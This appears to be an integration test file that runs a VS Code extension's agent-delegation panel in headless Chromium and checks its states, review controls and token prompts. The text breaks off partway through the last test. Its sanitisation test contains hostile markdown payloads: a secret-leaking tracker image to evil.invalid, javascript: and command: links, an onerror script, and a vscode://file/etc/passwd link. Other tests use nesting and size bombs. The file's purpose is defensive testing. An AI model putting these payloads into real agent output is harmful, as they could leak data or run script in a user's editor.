// The panel's own script in a real browser (Debian Chromium through playwright-core), fed snapshots the
// way the host sends them: each delegation state renders, agent markdown is sanitised (no remote
// image is fetched, no command: link survives), and the buttons post the protocol's requests.
// Screenshots of every state go to test-results/webview/.
import * as assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join, resolve } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import type { DelegationView, PanelSnapshot, ReviewFileView } from '../../../src/core/protocol/panelProtocol';
import { panelHtml } from '../../../src/extension/panel/webviewHtml';

const repo = resolve(__dirname, '../../..');
const CHROMIUM = process.env.CHROMIUM ?? '/usr/bin/chromium';
const bundle = join(repo, 'dist/webview/panel.js');
const shots = join(repo, 'test-results/webview');
const skip = !existsSync(CHROMIUM)
  ? 'Chromium is not installed (test/integration/setup.sh installs it)'
  : !existsSync(bundle)
    ? 'dist/webview/panel.js is not built (npm run build)'
    : false;

const page404: string[] = [];
let server: Server;
let base = '';
let browser: Browser;

const html = `<!DOCTYPE html><html><head><meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'self' 'unsafe-inline'; style-src 'self' 'unsafe-inline'; font-src 'self'; img-src 'self' data:; connect-src 'none'">
<link rel="stylesheet" href="/codicon.css" id="vscode-codicon-stylesheet">
<style>:root{--vscode-font-family:sans-serif;--vscode-font-size:13px;--vscode-foreground:#3b3b3b;--vscode-editor-background:#fff;--vscode-descriptionForeground:#717171;--vscode-badge-background:#cce5ff;--vscode-badge-foreground:#000;--vscode-button-background:#005fb8;--vscode-button-foreground:#fff;--vscode-errorForeground:#c00;--vscode-inputValidation-warningBackground:#fff4ce;--vscode-inputValidation-warningBorder:#b89500;--vscode-inputValidation-errorBackground:#fde7e9;--vscode-inputValidation-errorBorder:#c00;--vscode-focusBorder:#005fb8;--vscode-progressBar-background:#005fb8}</style>
<script>window.__posted=[];window.__state=undefined;window.acquireVsCodeApi=()=>({postMessage:m=>{window.__posted.push(m);if(m.type==='request'&&m.method!=='refresh')setTimeout(()=>window.postMessage({type:'response',id:m.id,ok:true,result:{}},'*'),10)},getState:()=>window.__state,setState:s=>{window.__state=s}});</script>
</head><body><main id="app"></main><script type="module" src="/panel.js"></script></body></html>`;

function delegation(over: Partial<DelegationView>): DelegationView {
  return {
    id: 'd-1',
    title: 'Format the files under src/',
    agent: { name: 'Formatter', endpoint: 'http://127.0.0.1:7777/a2a/formatter' },
    state: 'working',
    terminal: false,
    startedAt: new Date(Date.now() - 75_000).toISOString(),
    deadline: new Date(Date.now() + 600_000).toISOString(),
    capabilities: { write: false, shell: false, network: false },
    executor: 'formatter (built-in) via baton-gateway',
    confined: true,
    timeline: [
      {
        seq: 1,
        at: new Date(Date.now() - 70_000).toISOString(),
        kind: 'status',
        text: 'Submitted',
        state: 'submitted',
      },
      {
        seq: 2,
        at: new Date(Date.now() - 60_000).toISOString(),
        kind: 'step',
        text: 'Prepared a throwaway copy of the repository',
      },
      {
        seq: 3,
        at: new Date(Date.now() - 50_000).toISOString(),
        kind: 'message',
        markdown: true,
        text: 'Formatting **3 files** with `prettier`',
      },
    ],
    artifacts: [],
    ...over,
  };
}

function snapshot(d?: DelegationView): PanelSnapshot {
  return {
    title: 'Baton',
    trusted: true,
    agents: 2,
    delegations: 1,
    producedAt: new Date().toISOString(),
    refreshCount: 0,
    delegation: d,
  };
}

/**
 * The test page with the host's translations on the panel root exactly as the host writes them
 * (panelHtml's `<main>` element), for the translated-panel test.
 */
function translatedPage(bundle: Record<string, string>): string {
  const main = /<main [^>]*><\/main>/.exec(
    panelHtml({ cspSource: '', scriptUri: '', codiconCssUri: '', title: '', nonce: 'n', l10nBundle: bundle }),
  )?.[0];
  assert.ok(main, 'panelHtml writes the panel root');
  return html.replace('<main id="app"></main>', main);
}
let translated = '';

async function open(snap: PanelSnapshot, path = '/index.html'): Promise<Page> {
  const page = await browser.newPage({ viewport: { width: 1000, height: 720 } });
  page.on('request', (r) => {
    if (!r.url().startsWith(base)) page404.push(r.url());
  });
  await page.goto(`${base}${path}`);
  await page.waitForFunction(() =>
    (globalThis as unknown as { __posted: { type: string }[] }).__posted.some((m) => m.type === 'ready'),
  );
  await page.evaluate(
    (s) =>
      (globalThis as unknown as { postMessage: (m: unknown, o: string) => void }).postMessage(
        { type: 'snapshot', snapshot: s },
        '*',
      ),
    snap,
  );
  await page.waitForSelector('#state, .empty');
  // Expensive entries are rendered over several frames: wait until every one is.
  await page.waitForFunction(
    () =>
      !(globalThis as unknown as { document: { querySelector(s: string): unknown } }).document.querySelector(
        '.render-pending',
      ),
  );
  return page;
}

const posted = (page: Page) => page.evaluate(() => (globalThis as unknown as { __posted: unknown[] }).__posted);

describe('delegation panel in a real browser', { skip }, () => {
  before(async () => {
    mkdirSync(shots, { recursive: true });
    server = createServer((req, res) => {
      const name = (req.url ?? '/').split('?')[0];
      const file = name.endsWith('.html') ? null : join(repo, 'dist/webview', name.replace(/^\/+/, ''));
      if (name === '/index.html') {
        res.writeHead(200, { 'content-type': 'text/html' }).end(html);
      } else if (name === '/translated.html') {
        res.writeHead(200, { 'content-type': 'text/html' }).end(translated);
      } else if (file && existsSync(file)) {
        res
          .writeHead(200, {
            'content-type': file.endsWith('.js') ? 'text/javascript' : file.endsWith('.css') ? 'text/css' : 'font/ttf',
          })
          .end(readFileSync(file));
      } else res.writeHead(404).end();
    });
    await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
    const addr = server.address();
    base = `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}`;
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      headless: true,
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        '--disable-dev-shm-usage',
      ],
    });
  });
  after(async () => {
    await browser?.close();
    server?.close();
  });

  it('renders a running delegation with its facts, timeline and a Cancel button that posts cancel', async () => {
    const page = await open(snapshot(delegation({})));
    assert.equal(await page.getAttribute('#state', 'data-state'), 'working');
    assert.match(await page.innerText('body'), /read-only/);
    assert.equal(await page.locator('#timeline li').count(), 3);
    await page.screenshot({ path: join(shots, 'working.png') });
    await page.click('#cancel');
    const msgs = (await posted(page)) as { type: string; method?: string }[];
    assert.ok(
      msgs.some((m) => m.type === 'request' && m.method === 'cancel'),
      JSON.stringify(msgs),
    );
    await page.close();
  });

  it('explains its badges: read-only says it may only propose a patch; unconfined says why; built-in says it needs no sandbox', async () => {
    const ro = await open(
      snapshot(
        delegation({
          confined: undefined,
          executorKind: 'builtin',
          executorDetail:
            'Built-in agent: runs inside the gateway on its throwaway workspace only and runs no repository code.',
        }),
      ),
    );
    assert.match(
      await ro.innerText('.facts'),
      /read-only may only propose a patch; you review it before anything changes/,
    );
    assert.match(
      (await ro.getAttribute('.facts .chip >> text=read-only', 'title')) ?? '',
      /only read and propose a patch/,
    );
    assert.equal(
      await ro.locator('.facts .chip', { hasText: 'unconfined' }).count(),
      0,
      'a built-in agent is not shown as unconfined',
    );
    assert.match((await ro.getAttribute('.facts .chip >> text=built-in', 'title')) ?? '', /runs no repository code/);
    await ro.close();
    const un = await open(
      snapshot(
        delegation({
          confined: false,
          executorKind: 'headless',
          executorDetail:
            'Unconfined: bubblewrap (bwrap) is not installed. The agent runs with your user rights; only its working folder is a throwaway copy (apt-get install bubblewrap to confine it).',
          capabilities: { write: true, shell: true, network: false },
        }),
      ),
    );
    const facts = await un.innerText('.facts');
    assert.match(facts, /Runs without a sandbox on this machine: bubblewrap \(bwrap\) is not installed/);
    assert.match(facts, /changes come back only as a patch you review/);
    assert.match((await un.getAttribute('.facts .chip >> text=shell', 'title')) ?? '', /not a sandbox/);
    await un.screenshot({ path: join(shots, 'unconfined.png') });
    await un.close();
  });

  it('sanitises agent markdown: no remote image is fetched, no command: or javascript: link survives', async () => {
    const evil = [
      'Done. ![tracker](https://evil.invalid/pixel.png?secret=abc)',
      '[run me](command:workbench.action.terminal.new) [js](javascript:alert(1)) [ok](https://example.com/docs)',
      '<img src="https://evil.invalid/x.png" onerror="window.__pwned=1"> <script>window.__pwned=2</script>',
      '<a href="vscode://file/etc/passwd">file</a> <iframe src="https://evil.invalid"></iframe> <form action="https://evil.invalid"><input></form>',
    ].join('\n\n');
    const page = await open(
      snapshot(
        delegation({
          timeline: [{ seq: 1, at: new Date().toISOString(), kind: 'message', markdown: true, text: evil }],
        }),
      ),
    );
    await page.waitForTimeout(300);
    assert.equal(await page.locator('#app img').count(), 0);
    assert.equal(await page.locator('#app iframe, #app form, #app input, #app script').count(), 0);
    const hrefs = await page.$$eval('a[href]', (as) => as.map((a) => a.getAttribute('href')));
    assert.deepEqual(hrefs, ['https://example.com/docs']);
    // A link whose target was dropped is kept as its text (styled as the text around it: checked in
    // real VS Code, whose webview styles links, by test/integration/suite/inertNotifications.test.ts).
    const dropped = await page.$$eval('#timeline a:not([href])', (as) => as.map((a) => a.textContent));
    assert.deepEqual(dropped, ['run me', 'js', 'file']);
    assert.equal(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned), undefined);
    assert.match(await page.innerText('#timeline'), /\[image: tracker\]/);
    assert.deepEqual(
      page404.filter((u) => u.includes('evil')),
      [],
    );
    await page.screenshot({ path: join(shots, 'sanitised.png') });
    await page.close();
  });

  it('shows the reply box for input-required and posts the reply', async () => {
    const page = await open(
      snapshot(delegation({ state: 'input-required', question: 'Which **quote style**: single or double?' })),
    );
    await page.locator('#reply-text').click();
    await page.keyboard.type('single quotes');
    await page.screenshot({ path: join(shots, 'input-required.png') });
    await page.click('#send-reply');
    const msgs = (await posted(page)) as { type: string; method?: string; params?: { text?: string } }[];
    assert.ok(
      msgs.some((m) => m.method === 'reply' && m.params?.text === 'single quotes'),
      JSON.stringify(msgs),
    );
    await page.close();
  });

  it('shows the review: refusals listed with reasons, files and hunks selectable, apply/reject/allow post requests', async () => {
    const review: NonNullable<DelegationView['review']> = {
      state: 'ready',
      target: 'git',
      checkOk: true,
      drift: { headMoved: false, changedFiles: ['src/app.js'] },
      files: [
        {
          id: 'src/app.js',
          path: 'src/app.js',
          status: 'modified',
          added: 7,
          removed: 5,
          binary: false,
          applies: true,
          checkErrors: [],
          risks: [],
          selection: 'all',
          dirty: false,
          applied: 'none',
          hunks: [
            { id: 'src/app.js#1', header: '@@ -1,4 +1,4 @@', added: 3, removed: 2, selected: true, applied: false },
            {
              id: 'src/app.js#2',
              header: '@@ -20,6 +20,8 @@ function main()',
              added: 4,
              removed: 3,
              selected: true,
              applied: false,
            },
          ],
        },
        {
          id: 'README.md',
          path: 'README.md',
          status: 'added',
          added: 12,
          removed: 0,
          binary: false,
          applies: true,
          checkErrors: [],
          risks: [],
          selection: 'all',
          dirty: false,
          applied: 'none',
          hunks: [
            { id: 'README.md#1', header: '@@ -0,0 +1,12 @@', added: 12, removed: 0, selected: true, applied: false },
          ],
        },
        {
          id: '.github/workflows/ci.yml',
          path: '.github/workflows/ci.yml',
          status: 'modified',
          added: 2,
          removed: 0,
          binary: false,
          applies: true,
          checkErrors: [],
          selection: 'none',
          dirty: false,
          applied: 'none',
          hunks: [],
          risks: [
            {
              id: '.github/workflows/ci.yml:sensitive-file',
              kind: 'sensitive-file',
              severity: 'refuse',
              reason: 'CI workflows run with repository secrets: a change here runs code on the next push.',
              allowed: false,
            },
          ],
        },
        {
          id: 'package.json',
          path: 'package.json',
          status: 'modified',
          added: 1,
          removed: 1,
          binary: false,
          applies: true,
          checkErrors: [],
          selection: 'all',
          dirty: false,
          applied: 'none',
          hunks: [],
          risks: [
            {
              id: 'package.json:package-scripts',
              kind: 'package-scripts',
              severity: 'flag',
              reason: 'Changes package.json scripts (postinstall): they run on the next npm install.',
              allowed: false,
            },
          ],
        },
      ],
    };
    const page = await open(
      snapshot(
        delegation({
          state: 'completed',
          terminal: true,
          endedAt: new Date().toISOString(),
          patch: { files: 4, additions: 22, deletions: 6 },
          review,
        }),
      ),
    );
    assert.match(await page.innerText('#refusals'), /CI workflows run with repository secrets/);
    assert.match(await page.innerText('#drift'), /src\/app\.js/);
    assert.equal(await page.locator('[data-select-hunk]').count(), 2);
    await page.screenshot({ path: join(shots, 'review.png'), fullPage: true });
    await page.click('[data-allow=".github/workflows/ci.yml:sensitive-file"]');
    await page.click('[data-select-hunk="src/app.js#2"]');
    await page.click('#apply');
    await page.click('#reject');
    const msgs = (await posted(page)) as { method?: string; params?: Record<string, unknown> }[];
    const methods = msgs.map((m) => m.method).filter(Boolean);
    assert.ok(
      msgs.some(
        (m) =>
          m.method === 'reviewOverride' &&
          m.params?.riskId === '.github/workflows/ci.yml:sensitive-file' &&
          m.params.allow === true,
      ),
      JSON.stringify(methods),
    );
    assert.ok(
      msgs.some(
        (m) => m.method === 'reviewSelect' && m.params?.hunkId === 'src/app.js#2' && m.params.selected === false,
      ),
      JSON.stringify(msgs.filter((m) => m.method === 'reviewSelect')),
    );
    assert.ok(methods.includes('reviewApply') && methods.includes('reviewReject'), JSON.stringify(methods));
    await page.close();
  });

  it('after a partial apply: applied files and hunks are marked, the rest can still be selected and applied, and undone', async () => {
    const file = (id: string, over: Partial<ReviewFileView>): ReviewFileView => ({
      id,
      path: id,
      status: 'modified',
      added: 2,
      removed: 1,
      binary: false,
      applies: true,
      checkErrors: [],
      risks: [],
      selection: 'none',
      dirty: false,
      applied: 'none',
      hunks: [],
      ...over,
    });
    const review: NonNullable<DelegationView['review']> = {
      state: 'ready',
      target: 'git',
      checkOk: true,
      message: 'Applied 2 file(s).',
      files: [
        file('src/styles.css', { applied: 'all' }),
        file('src/pricing.js', {
          applied: 'some',
          hunks: [
            { id: 'src/pricing.js#1', header: '@@ -1,3 +1,3 @@', added: 1, removed: 1, selected: false, applied: true },
            {
              id: 'src/pricing.js#2',
              header: '@@ -9,4 +9,4 @@ function describePrice',
              added: 1,
              removed: 1,
              selected: false,
              applied: false,
            },
          ],
        }),
        file('src/cart.js', {}),
        file('README.md', { status: 'added', added: 3, removed: 0 }),
      ],
      applied: { at: new Date().toISOString(), files: ['src/styles.css', 'src/pricing.js'], undoable: true },
    };
    const page = await open(
      snapshot(
        delegation({
          state: 'completed',
          terminal: true,
          endedAt: new Date().toISOString(),
          patch: { files: 4, additions: 9, deletions: 3 },
          review,
        }),
      ),
    );
    assert.equal(await page.getAttribute('[data-file="src/styles.css"]', 'data-applied'), 'all');
    assert.match(await page.innerText('[data-file="src/styles.css"]'), /applied/);
    assert.match(await page.innerText('[data-file="src/pricing.js"]'), /partly applied/);
    assert.equal(await page.locator('[data-select-file="src/styles.css"][disabled]').count(), 1);
    assert.equal(await page.locator('[data-select-hunk="src/pricing.js#1"][disabled]').count(), 1);
    assert.equal(await page.locator('[data-select-hunk="src/pricing.js#2"][disabled]').count(), 0);
    assert.equal(await page.locator('[data-select-file="src/cart.js"][disabled]').count(), 0);
    assert.match(await page.innerText('#remaining'), /3 of 4 files left to apply/);
    assert.ok(await page.isVisible('#undo'));
    assert.equal(await page.locator('#select-none[disabled]').count(), 1, 'nothing is selected: Select None is off');
    await page.screenshot({ path: join(shots, 'review-partly-applied.png'), fullPage: true });
    await page.click('#select-all');
    await page.click('[data-select-hunk="src/pricing.js#2"]');
    const msgs = (await posted(page)) as { method?: string; params?: Record<string, unknown> }[];
    assert.ok(
      msgs.some((m) => m.method === 'reviewSelectAll' && m.params?.selected === true),
      JSON.stringify(msgs),
    );
    assert.ok(
      msgs.some(
        (m) => m.method === 'reviewSelect' && m.params?.hunkId === 'src/pricing.js#2' && m.params.selected === true,
      ),
      JSON.stringify(msgs),
    );
    // With everything left selected, Apply names how many and Select None clears it.
    const selected = {
      ...review,
      files: review.files.map((f) =>
        f.applied === 'all' ? f : { ...f, selection: f.applied === 'some' ? ('some' as const) : ('all' as const) },
      ),
    };
    await page.evaluate(
      (s) =>
        (globalThis as unknown as { postMessage: (m: unknown, o: string) => void }).postMessage(
          { type: 'snapshot', snapshot: s },
          '*',
        ),
      snapshot(delegation({ state: 'completed', terminal: true, review: selected })),
    );
    await page.waitForSelector('#apply:not([disabled])');
    assert.match(await page.innerText('#apply'), /Apply Selected \(3\)/);
    await page.click('#select-none');
    await page.click('#apply');
    const after = ((await posted(page)) as { method?: string; params?: Record<string, unknown> }[]).filter(
      (m) => m.method,
    );
    assert.ok(
      after.some((m) => m.method === 'reviewSelectAll' && m.params?.selected === false),
      JSON.stringify(after),
    );
    assert.ok(
      after.some((m) => m.method === 'reviewApply'),
      JSON.stringify(after),
    );
    await page.close();
  });

  it('auth-required: Set Token… and Check Again ask the host to store a token and to follow the task again', async () => {
    const page = await open(
      snapshot(delegation({ state: 'auth-required', reason: 'The agent needs a token for agents.example.com.' })),
    );
    await page.click('#provide-token');
    await page.click('#check-again');
    const methods = ((await posted(page)) as { method?: string }[]).map((m) => m.method).filter(Boolean);
    assert.ok(methods.includes('provideToken') && methods.includes('checkAgain'), JSON.stringify(methods));
    await page.close();
  });

  it('a token the agent refused while reconnecting: says so with Set Token…; once Baton gave up, Check again too', async () => {
    const reconnecting = await open(snapshot(delegation({ state: 'reconnecting', tokenRefused: true })));
    assert.match(
      (await reconnecting.textContent('#token-refused')) ?? '',
      /refused Baton’s token\..*keeps trying with it/s,
    );
    assert.equal(await reconnecting.$('#check-again'), null);
    await reconnecting.click('#provide-token');
    assert.ok(((await posted(reconnecting)) as { method?: string }[]).some((m) => m.method === 'provideToken'));
    await reconnecting.close();
    const gaveUp = await open(
      snapshot(
        delegation({
          state: 'unknown',
          tokenRefused: true,
          reason: 'Lost contact with the agent (HTTP 401 Unauthorized for GetTask: missing or unknown bearer token)',
        }),
      ),
    );
    assert.match((await gaveUp.textContent('#token-refused')) ?? '', /stopped trying.*HTTP 401/s);
    await gaveUp.click('#provide-token');
    await gaveUp.click('#check-again');
    const methods = ((await posted(gaveUp)) as { method?: string }[]).map((m) => m.method).filter(Boolean);
    assert.ok(methods.includes('provideToken') && methods.includes('checkAgain'), JSON.stringify(methods));
    await gaveUp.close();
  });

  it('a token refused at the first message: the delegation failed before any task; Set Token… and Delegate Again', async () => {
    const page = await open(
      snapshot(
        delegation({
          state: 'failed',
          tokenRefused: true,
          reason:
            'The agent refused the request before starting a task: missing or unknown bearer token (UNAUTHENTICATED)',
        }),
      ),
    );
    assert.match(
      (await page.textContent('#token-refused')) ?? '',
      /refused Baton’s token\..*not started.*then Delegate Again.*UNAUTHENTICATED/s,
    );
    assert.equal(await page.$('#check-again'), null, 'nothing to check: no task was created');
    await page.click('#provide-token');
    await page.click('#delegate-again');
    const methods = ((await posted(page)) as { method?: string }[]).map((m) => m.method).filter(Boolean);
    assert.deepEqual(
      methods.filter((m) => m !== 'refresh'),
      ['provideToken', 'delegateAgain'],
    );
    await page.close();
  });

  it('says it is connecting only when the first snapshot is slow to come (no flash on a panel shown again)', async () => {
    const page = await browser.newPage({ viewport: { width: 1000, height: 720 } });
    await page.goto(`${base}/index.html`);
    await page.waitForSelector('#connecting', { state: 'attached' });
    /** The line's computed opacity, read in the page. */
    const shown = (): string => {
      const g = globalThis as unknown as {
        document: { querySelector(s: string): unknown };
        getComputedStyle(e: unknown): { opacity: string };
      };
      const e = g.document.querySelector('#connecting');
      return e ? g.getComputedStyle(e).opacity : 'gone';
    };
    assert.equal(await page.evaluate(shown), '0', 'not shown at first');
    // With no snapshot coming, it is shown after a moment.
    const until = Date.now() + 5000;
    while ((await page.evaluate(shown)) !== '1' && Date.now() < until) await new Promise((r) => setTimeout(r, 50));
    assert.equal(await page.evaluate(shown), '1');
    await page.close();
  });

  it('Delegate Again on every delegation that ended without a result, and not on one that completed or runs', async () => {
    for (const state of ['failed', 'rejected', 'canceled', 'expired'] as const) {
      const page = await open(snapshot(delegation({ state, reason: 'The agent stopped.' })));
      await page.click('#delegate-again');
      const methods = ((await posted(page)) as { method?: string }[]).map((m) => m.method);
      assert.ok(methods.includes('delegateAgain'), `${state}: ${JSON.stringify(methods)}`);
      await page.close();
    }
    for (const state of ['completed', 'working', 'unknown'] as const) {
      const page = await open(snapshot(delegation({ state })));
      assert.equal(await page.$('#delegate-again'), null, state);
      await page.close();
    }
    // An agent Baton no longer calls (its gateway removed it): the same button asks for another agent.
    const page = await open(snapshot(delegation({ state: 'failed', agentUnavailable: true })));
    assert.equal((await page.textContent('#delegate-again'))?.trim(), 'Delegate to Another Agent…');
    await page.close();
    const same = await open(snapshot(delegation({ state: 'failed' })));
    assert.equal((await same.textContent('#delegate-again'))?.trim(), 'Delegate Again');
    await same.close();
  });

  // Hostile agent text: every kind of deep nesting, huge lines, thousands of entries. The panel must
  // render (state, Cancel, timeline), show what it cannot render as plain text with a note, and say
  // where it shortened text.
  const at = () => new Date().toISOString();
  const NESTED: [string, string][] = [
    ['blockquotes', `${'>'.repeat(5000)} deep`],
    ['spaced blockquotes', `${'> '.repeat(5000)}deep`],
    ['list markers on one line', `${'- '.repeat(3000)}deep`],
    ['ordered list markers', `${'1. '.repeat(3000)}deep`],
    ['indented lists', Array.from({ length: 400 }, (_, i) => `${' '.repeat(i * 2)}- level ${i}`).join('\n')],
    ['strong emphasis', `${'**'.repeat(3000)}deep${'**'.repeat(3000)}`],
    ['emphasis and brackets', `${'*['.repeat(3000)}deep${']*'.repeat(3000)}`],
    ['quotes inside lists', `${'> - '.repeat(3000)}deep`],
    ['raw HTML', `${'<blockquote>'.repeat(3000)}deep`],
  ];

  it('renders every kind of deeply nested agent text as plain text with a note, and the panel stays usable', async () => {
    const timeline = [
      { seq: 1, at: at(), kind: 'message' as const, markdown: true, text: 'Before: **bold** stays markdown' },
      ...NESTED.map(([, text], i) => ({ seq: i + 2, at: at(), kind: 'message' as const, markdown: true, text })),
      { seq: NESTED.length + 2, at: at(), kind: 'step' as const, markdown: true, text: 'After: `code` stays markdown' },
    ];
    const page = await open(snapshot(delegation({ timeline })));
    assert.equal(await page.locator('#timeline > li').count(), NESTED.length + 2);
    assert.equal(await page.locator('#timeline > li').first().locator('strong').innerText(), 'bold');
    assert.equal(await page.locator('#timeline > li').last().locator('code').innerText(), 'code');
    const notes = await page.locator('#timeline .render-note').allInnerTexts();
    assert.equal(notes.length, NESTED.length, notes.join('\n'));
    for (const [i, [what]] of NESTED.entries()) assert.match(notes[i], /shown as plain text: too deeply nested/i, what);
    const deepest = await page.$eval('#timeline', (el) => {
      let max = 0;
      const stack: Array<[typeof el, number]> = [[el, 0]];
      for (let top = stack.pop(); top; top = stack.pop()) {
        max = Math.max(max, top[1]);
        for (const c of Array.from(top[0].children)) stack.push([c, top[1] + 1]);
      }
      return max;
    });
    assert.ok(deepest < 40, `the timeline's DOM is ${deepest} levels deep`);
    await page.screenshot({ path: join(shots, 'hostile-nesting.png') });
    await page.click('#cancel');
    assert.ok(((await posted(page)) as { method?: string }[]).some((m) => m.method === 'cancel'));
    await page.close();
  });

  it('shortens huge agent text, says where, and keeps the panel responsive', async () => {
    const huge = 'a'.repeat(5 * 1024 * 1024);
    const timeline = [
      { seq: 1, at: at(), kind: 'message' as const, markdown: true, text: huge },
      { seq: 2, at: at(), kind: 'message' as const, markdown: true, text: `${'*x* '.repeat(300_000)}` },
      { seq: 3, at: at(), kind: 'note' as const, text: 'b'.repeat(3 * 1024 * 1024) },
      { seq: 4, at: at(), kind: 'step' as const, markdown: true, text: 'still **here**' },
    ];
    const page = await open(
      snapshot(delegation({ timeline, title: 't'.repeat(1024 * 1024), reason: 'r'.repeat(1024 * 1024) })),
    );
    assert.equal(await page.locator('#timeline > li').count(), 4);
    const notes = await page.locator('#timeline .render-note').allInnerTexts();
    assert.equal(notes.length, 3, notes.join('\n'));
    assert.match(notes[0], /Shortened: showing the first [\d,]+ of 5,242,880 characters/);
    assert.match(notes[2], /Shortened: showing the first [\d,]+ of 3,145,728 characters/);
    const lengths = await page.$$eval('#timeline > li', (lis) => lis.map((li) => (li.textContent ?? '').length));
    assert.ok(
      lengths.every((n) => n < 120_000),
      JSON.stringify(lengths),
    );
    assert.ok(((await page.textContent('header h1')) ?? '').length < 2000);
    assert.equal(await page.locator('#timeline > li').last().locator('strong').innerText(), 'here');
    // Responsive: the elapsed counter keeps ticking (a redraw each second does not re-render the markdown).
    const t0 = Date.now();
    assert.ok(
      (await page.evaluate(
        () =>
          new Promise<number>((r) => {
            const s = performance.now();
            setTimeout(() => r(performance.now() - s), 0);
          }),
      )) < 1000,
    );
    assert.ok(Date.now() - t0 < 5000);
    await page.screenshot({ path: join(shots, 'hostile-huge.png') });
    // The full text is offered another way: the host opens it in a plain-text editor.
    await page.locator('#timeline > li').first().locator('.open-full').click();
    assert.ok(
      ((await posted(page)) as { method?: string; params?: { seq?: number } }[]).some(
        (m) => m.method === 'showFullText' && m.params?.seq === 1,
      ),
    );
    await page.close();
  });

  it('shows the latest entries of a very long timeline and says how many earlier ones are not shown', async () => {
    const timeline = Array.from({ length: 5000 }, (_, i) => ({
      seq: i + 1,
      at: at(),
      kind: 'message' as const,
      markdown: true,
      text: `entry **${i + 1}** ${'> '.repeat(i % 7)}quoted`,
    }));
    const page = await open(snapshot(delegation({ timeline })));
    const shown = await page.locator('#timeline > li.entry').count();
    assert.ok(shown > 0 && shown <= 500, `${shown} entries shown`);
    assert.match(
      await page.innerText('#timeline-omitted'),
      new RegExp(`${(5000 - shown).toLocaleString('en-US')} earlier entries are not shown`),
    );
    assert.match(await page.locator('#timeline > li.entry').last().innerText(), /entry 5000/);
    assert.equal(await page.locator('#cancel').count(), 1);
    await page.close();
  });

  it('paints the state and Cancel at once when a hundred and more entries are expensive to render, then renders them all', async () => {
    // Superlinear for the markdown parser, yet shallow: each entry costs it tens to hundreds of milliseconds.
    const costly = (i: number) => `${i} ${'_a_b'.repeat(2_500)}`;
    const timeline = Array.from({ length: 150 }, (_, i) => ({
      seq: i + 1,
      at: at(),
      kind: 'message' as const,
      markdown: true,
      text: costly(i),
    }));
    const page = await browser.newPage({ viewport: { width: 1000, height: 720 } });
    await page.goto(`${base}/index.html`);
    await page.waitForFunction(() =>
      (globalThis as unknown as { __posted: { type: string }[] }).__posted.some((m) => m.type === 'ready'),
    );
    const started = Date.now();
    await page.evaluate(
      (s) =>
        (globalThis as unknown as { postMessage: (m: unknown, o: string) => void }).postMessage(
          { type: 'snapshot', snapshot: s },
          '*',
        ),
      snapshot(delegation({ timeline })),
    );
    await page.waitForSelector('#cancel', { timeout: 10_000 });
    const painted = Date.now() - started;
    assert.ok(painted < 5_000, `the first paint took ${painted} ms`);
    assert.equal(await page.locator('#timeline > li').count(), 150);
    await page.click('#cancel');
    assert.ok(((await posted(page)) as { method?: string }[]).some((m) => m.method === 'cancel'));
    await page.waitForFunction(
      () =>
        !(globalThis as unknown as { document: { querySelector(s: string): unknown } }).document.querySelector(
          '.render-pending',
        ),
      undefined,
      { timeout: 240_000 },
    );
    assert.equal(await page.locator('#timeline .md').count(), 150);
    await page.close();
  });

  it('renders the rest of the panel when one entry cannot be rendered at all, and a hostile question still gets a reply box', async () => {
    const broken = {
      seq: 2,
      at: 'not a time',
      kind: 'message' as const,
      markdown: true,
      text: null as unknown as string,
    };
    const timeline = [
      { seq: 1, at: at(), kind: 'step' as const, markdown: true, text: 'first **ok**' },
      broken,
      {
        seq: 3,
        at: at(),
        kind: 'message' as const,
        markdown: true,
        text: `mixed ${'> 1. **['.repeat(2000)} and ${'x'.repeat(200_000)}`,
      },
      { seq: 4, at: at(), kind: 'step' as const, markdown: true, text: 'last **ok**' },
    ];
    const page = await open(
      snapshot(delegation({ state: 'input-required', timeline, question: `${'- > '.repeat(4000)}which one?` })),
    );
    assert.equal(await page.getAttribute('#state', 'data-state'), 'input-required');
    assert.equal(await page.locator('#timeline > li').count(), 4);
    assert.match(await page.innerText('#timeline'), /first ok[\s\S]*could not be shown[\s\S]*last ok/);
    assert.match(await page.innerText('.reply'), /shown as plain text: too deeply nested/i);
    await page.locator('#reply-text').click();
    await page.keyboard.type('the first');
    await page.click('#send-reply');
    assert.ok(
      ((await posted(page)) as { method?: string; params?: { text?: string } }[]).some(
        (m) => m.method === 'reply' && m.params?.text === 'the first',
      ),
    );
    await page.close();
  });

  const terminal: [DelegationView['state'], Partial<DelegationView>, RegExp][] = [
    [
      'completed',
      {
        patch: { files: 3, additions: 12, deletions: 9 },
        artifacts: [
          {
            name: 'changes.patch',
            mediaType: 'text/x-diff',
            bytes: 1834,
            digest: 'sha256:0f3c9a1b2c3d4e5f60718293a4b5c6d7e8f9',
            isPatch: true,
          },
        ],
        signature: { status: 'verified', detail: 'gateway key 7Q2…' },
      },
      /Review Changes/,
    ],
    ['failed', { reason: 'prettier exited with code 2: src/broken.js: SyntaxError' }, /SyntaxError/],
    ['unknown', { reason: 'The stream broke and the agent did not answer GetTask for 60 s.' }, /Check again/],
    ['expired', {}, /deadline passed/],
    ['canceled', { cancelConfirmed: false }, /did not confirm/],
    [
      'auth-required',
      { reason: 'Sign in at https://agents.example.com/authorize, then come back.' },
      /secret storage[\s\S]*Sign in at/,
    ],
    [
      'completed',
      {
        patch: { files: 1, additions: 1, deletions: 0 },
        signature: { status: 'invalid', detail: 'artifact changes.patch does not match its signed digest' },
      },
      /does not match/,
    ],
  ];
  it('renders a data part as a collapsed tree of keys and values, never as markup, long strings folded', async () => {
    const long = `<img src="http://127.0.0.1:9/x.png">${'diff line\n'.repeat(100)}`;
    const value = {
      request: { callId: 'call-1', name: 'replace', args: { file_path: '<b>src/a.ts</b>', n: 3, ok: true } },
      status: 'awaiting_approval',
      confirmationDetails: { type: 'edit', fileDiff: long, none: null },
      tool: ['replace', 'edit'],
    };
    const bytes = JSON.stringify(value).length;
    const page = await open(
      snapshot(
